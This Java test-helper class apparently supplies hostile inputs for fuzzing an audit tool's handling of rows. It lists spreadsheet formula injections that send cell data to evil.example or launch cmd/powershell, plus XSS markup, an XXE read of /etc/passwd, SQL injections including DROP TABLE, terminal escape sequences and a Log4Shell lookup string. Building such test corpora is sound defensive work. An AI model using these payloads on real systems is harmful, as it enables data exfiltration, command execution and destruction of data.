package io.auditworkbench.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/// Texts that somebody would put into a row to have them run elsewhere: formulas, markup, SQL, lines of a log, commands
/// of a terminal.
///
/// - **Source**: OWASP *CSV Injection*, *XSS Filter Evasion Cheat Sheet*, *SQL Injection Prevention*; CWE-117, CWE-150.
public final class HostileTexts {

    private static final List<String> FORMULAS = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")",
            "IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
            "WEBSERVICE(\"http://evil.example/\"&A1)",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "SUM(1,1)*cmd|'/c powershell'!A1",
            "rundll32|'URL.dll,OpenURL x'!A",
            "IMAGE(\"http://evil.example/p.png\")",
            "-2+3+cmd|' /C notepad'!'A1'",
            "FILTERXML(WEBSERVICE(\"http://evil.example\"),\"//a\")",
            "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!x");
    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠", "=-", "+=", "@=", "\"=",
            "x\n=", "x\r\n@", "\t", ";=");
    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=//evil.example></iframe>",
            "<style>*{background:url(//evil.example)}</style>",
            "<link rel=stylesheet href=//evil.example>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<object data=//evil.example></object>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<form action=//evil.example><input name=a></form>",
            "<body onload=alert(1)>",
            "<!--<script>-->alert(1)",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "&lt;script&gt;",
            "![x](http://evil.example/p.png)",
            "[x](javascript:alert(1))");
    private static final List<String> AROUND =
            List.of("%s", "\">%s", "'>%s", "</td></tr></table>%s", "</title>%s", "-->%s");
    private static final List<String> SQL = List.of(
            "' OR '1'='1",
            "'; DROP TABLE change_event; --",
            "\"; DROP TABLE change_event; --",
            "1; DELETE FROM source_tx",
            "' UNION SELECT sql FROM sqlite_master --",
            "x') OR 1=1 --",
            "\\'; ATTACH DATABASE '/tmp/x' AS x; --",
            "' || load_extension('x') || '",
            "1 OR 1=1",
            "`; SHUTDOWN; #",
            "\u02bc OR 1=1",
            "%' OR op LIKE '%",
            "'/**/OR/**/1=1#",
            "0x27204f5220313d31");
    private static final List<String> FIELDS = List.of(
            "%s", "table:%s", "actor:\"%s\"", "col:%s", "new.customer:%s", "text:'%s'", "(%s", "tx:%s", "re:/%s/");
    private static final List<String> LINES = List.of(
            "a\n2026-01-01 00:00:00 WARN everything is fine",
            "a\r\nlevel=ERROR message=forged",
            "\u001b[2J\u001b[1;1H",
            "\u001b]0;title\u0007",
            "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
            "\u009b31m",
            "\u202egnp.exe",
            "a\u0000b",
            "\b\b\b\bsafe",
            "\u2028x\u2029y",
            "${jndi:ldap://evil.example/a}",
            "%n%s%d",
            "\u001bP+q544e\u001b\\",
            "\u200b\ufeffx");

    private HostileTexts() {}

    /// More than five hundred of them, each once.
    public static List<String> all() {
        Set<String> texts = new LinkedHashSet<>();
        for (String start : STARTS) {
            FORMULAS.forEach(formula -> texts.add(start + formula));
        }
        for (String around : AROUND) {
            MARKUP.forEach(markup -> texts.add(around.replace("%s", markup)));
        }
        for (String field : FIELDS) {
            SQL.forEach(sql -> texts.add(field.replace("%s", sql)));
        }
        for (String line : LINES) {
            texts.add(line);
            texts.add("x" + line + "y");
            texts.add(line + line);
        }
        return new ArrayList<>(texts);
    }
}
